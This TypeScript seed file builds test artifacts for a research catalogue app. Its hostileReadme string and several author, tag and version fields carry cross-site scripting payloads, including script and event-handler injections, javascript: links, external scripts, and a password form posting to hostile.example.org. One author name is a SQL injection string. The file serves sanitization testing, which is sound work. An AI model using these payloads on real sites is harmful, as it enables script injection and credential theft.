import { gitId, labRepo, startedBy, storedArchive, withLink } from '../contents';
import { people } from '../people';
import { research } from './research';
import type { SeedArtifact, SeedAuthor } from '../seed';
import { seedTags } from '../seedTags';

/** If any of this runs, it sets `window.hostile`, shows an alert, or changes the page. */
const hostileReadme = `
# Harmless heading <script>window.hostile = 'script'; alert(1)</script>

Text before. <img src=x onerror="window.hostile='img'; alert(1)"> Text after. <b onclick="alert(1)">Bold text stays.</b>

<script src="https://hostile.example.org/script.js"></script>
<iframe src="https://hostile.example.org/frame" srcdoc="<script>parent.hostile='iframe'</script>"></iframe>
<style>body { display: none } * { background: red !important }</style>
<link rel="stylesheet" href="https://hostile.example.org/style.css">
<base href="https://hostile.example.org/">
<meta http-equiv="refresh" content="0; url=https://hostile.example.org/">

<form action="https://hostile.example.org/login" method="post">
  <input name="password" type="password" autofocus onfocus="window.hostile='focus'">
  <button formaction="javascript:alert(1)">Log in</button>
</form>

## Links that lead nowhere good

- [script link](javascript:alert(1))
- [script link, disguised](JaVaScRiPt:alert&#40;1&#41;)
- [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
- [old script link](vbscript:msgbox(1))
- [by reference][evil]
- <a href="jav&#x09;ascript:alert(1)">tab inside</a>
- <a href=" &#14; javascript:alert(1)">control sign in front</a>
- <a href="https://safe.example.org/" target="_top" onmouseover="window.hostile='over'">safe link</a>
- ![script image](javascript:alert(1)) ![data image](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)

[evil]: javascript:alert(1) "title"

## Elements with a life of their own

<svg onload="window.hostile='svg'"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text y="20">svg text</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></mglyph></table></mtext></math>
<details open ontoggle="window.hostile='toggle'"><summary>Summary</summary>Inside</details>
<video><source onerror="window.hostile='video'"></video>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<div style="position:fixed;inset:0;z-index:99999;background:white">Cover</div>
<img name="getElementById" id="location"><form id="cookie"></form>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<marquee onstart="window.hostile='marquee'">moving</marquee>

## Code stays text

\`<script>alert(1)</script>\`

\`\`\`html
<img src=x onerror=alert(1)>
\`\`\`

The end is in order, but for this: <div><b><i><a href="https://safe.example.org/open
`;

/** One wide, unbroken text of exactly 5000 characters. */
const longestText = [
  `An unbroken line: ${'abcdefghij'.repeat(60)}`,
  `| ${'wide | '.repeat(40)}\n| ${'--- | '.repeat(40)}\n| ${'cell | '.repeat(40)}`,
  'And on it goes, to the very last character. '.repeat(100),
]
  .join('\n\n')
  .slice(0, 4999)
  .concat('.');

const hostileAuthors: SeedAuthor[] = [
  {
    fullName: '<script>alert(1)</script>',
    affiliation: '<img src=x onerror=alert(1)>',
    email: 'hostile@example.org',
  },
  {
    fullName: "Robert'); DROP TABLE artifacts;--",
    affiliation: '"><svg onload=alert(1)>',
    email: "o'brien+{curly}@example.org",
  },
  {
    fullName: 'Curly {Brace}, \\Backslash\\ & 100 % #1_$',
    affiliation: '\u202etxet desrever\u202c, '.concat('very long '.repeat(17)).trim(),
    email: 'tex@example.org',
  },
  { fullName: 'A'.repeat(200), affiliation: '', email: `${'a'.repeat(60)}@example.org` },
];

/** Texts that try to break the markup or the layout (contract/api 6.4). All keep to the limits. */
export const hostileArtifacts: SeedArtifact[] = [
  research({
    key: 'markup-title',
    title: '<img src=x onerror=alert(1)> in Titles: Markup in the Metadata of Five Catalogues',
    short:
      '<script>alert(1)</script> <b>Not bold.</b> <img src=x onerror=alert(1)> **Not strong either.**',
    long: 'The title is meant to look like that.',
    owner: 'f.benali',
    authors: [people.benAli],
    tags: ['security'],
    links: ['escaped-title', 'hostile-readme'],
    use: [77, 50, 3],
    versions: [['2024-04-01 04:01', labRepo('carthage-sec/markup-titles', 1)]],
  }),
  research({
    key: 'escaped-title',
    title:
      'Escaping &amp; "Quoting" in Tom\'s & Jerry\'s <Catalogue>: a 100 % {TeX}_Safe #Study \\o/',
    short: 'Five catalogues, four escapes &lt;b&gt;too many&lt;/b&gt;, one `back-tick` and a %20.',
    owner: 's.obrien',
    authors: [people.obrien, people.dangelo],
    tags: ['security', 'data-set'],
    use: [58, 33, 1],
    versions: [['2024-04-02 04:02', labRepo('carthage-sec/markup-titles', 2)]],
  }),
  research({
    key: 'hostile-readme',
    title: 'Cross-Site Scripting in Research Catalogues: Test Pages',
    short:
      'A long description with everything that a browser should not run. If you see an alert, tell us.',
    long: hostileReadme,
    owner: 'f.benali',
    collaborators: ['tecor'],
    authors: [people.benAli, people.shevchenko],
    tags: ['security', 'x<b onmouseover=alert(1)>b</b>'],
    use: [666, 66, 6],
    versions: [
      [
        '2024-04-03 04:03',
        withLink(
          startedBy(labRepo('carthage-sec/markup-titles', 3), 'source_code', {
            url: 'javascript:alert(1)',
            repo_url: 'javascript:alert(1)',
            protocol: 'git',
          }),
          '<img src=x onerror=alert(1)>',
          'urn:javascript:alert(1)',
        ),
      ],
      ['2024-04-03 04:04', gitId('javascript:alert(1)//github.com/lab/repo.git@main')],
      [
        '2024-04-03 04:05',
        startedBy(storedArchive('hostile'), '<b>type</b>', '<script>alert(1)</script>'),
      ],
    ],
  }),
  research({
    key: 'hostile-authors',
    title: 'Names That Break Things: A Collection',
    short:
      'Author names, addresses and affiliations that once broke a web page, a database or a bibliography.',
    citation: '<b>Bold</b>, <script>alert(1)</script>. Names That Break Things. 2024.',
    owner: 'techeverria',
    authors: hostileAuthors,
    tags: ['x<b onmouseover=alert(1)>b</b>', 'databases'],
    use: [404, 303, 200],
    versions: [['2024-06-06 06:06', labRepo('llano-sistemas/names', 'main')]],
  }),
  research({
    key: 'long-title',
    title:
      'On the Considerable Length of Titles in Systems Research, with Particular Attention to Those That Fill the Very Last of 140 Characters: This',
    short: 'x'.repeat(200),
    long: longestText,
    owner: 'jitka.novakova',
    authors: [people.novakova],
    tags: ['data-set'],
    use: [140, 140, 140],
    versions: [['2023-08-08 08:08', labRepo('vltava-perf/long-titles', 'main')]],
  }),
  research({
    key: 'unbroken-title',
    title:
      `Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft${'sarchivverwaltung'.repeat(3)}`.slice(
        0,
        120,
      ),
    short: `https://example.org/${'path-without-a-break'.repeat(8)}`,
    owner: 'anke.gross',
    authors: [people.gross],
    tags: ['data-set'],
    use: [1, 1, 0],
    versions: [['2023-08-09 08:08', labRepo('weser-measure/unbroken', 'main')]],
  }),
  research({
    key: 'right-to-left',
    title: 'قياس زمن الاستجابة في شبكات الحافة (Edge) لعام 2023',
    short: 'دفاتر وبيانات لإعادة التجربة على عقدتين، مع شرح بالعربية والإنجليزية.',
    long: '## نظرة عامة\n\nتقيس هذه الدراسة زمن الاستجابة بين **عقدتين** عبر شبكة لاسلكية.\n\n1. احجز العقدتين\n2. شغّل `run.ipynb`\n3. قارن النتائج بالجدول\n\n| الحمل | الوسيط (ms) |\n| --- | ---: |\n| 20 % | 14 |\n| 80 % | 31 |',
    owner: 'f.benali',
    authors: [people.benAli, people.yamada, people.kim],
    tags: ['edge', 'wireless'],
    use: [219, 97, 52],
    versions: [['2023-10-19 11:00', labRepo('carthage-sec/edge-latency', 'main')]],
  }),
  research({
    key: 'emoji-title',
    title: '🦎🔬 Chameleons in the Wild 👩🏽‍🔬👨‍👩‍👧‍👦: Wildlife Cameras at the Edge 🏳️‍🌈 ①②③ e\u0301',
    short: '📸 Forty solar cameras ☀️, one gateway 📡, no network at night 🌙.',
    long: '## 🐾 What is inside\n\n- 📷 firmware\n- 🧠 a model of 900 kB\n- 🗺️ a map\n\n:lizard: is the name of an emoji.',
    owner: 'kkealoha',
    authors: [people.kealoha],
    tags: ['edge', 'machine-learning', 'energy'],
    use: [812, 401, 249],
    versions: [['2023-12-24 18:00', storedArchive('wildlife-cameras')]],
  }),
  research({
    key: 'every-tag',
    title: 'Everything at Once: One Artifact for Every Tag',
    short: 'Touches each topic of the vocabulary at least once. A test of tag clouds, mostly.',
    owner: 'rdasilva',
    authors: [people.daSilva],
    tags: [...seedTags],
    use: [45, 45, 45],
    versions: [['2022-05-09 13:13', labRepo('tecor/everything', 'main')]],
  }),
];
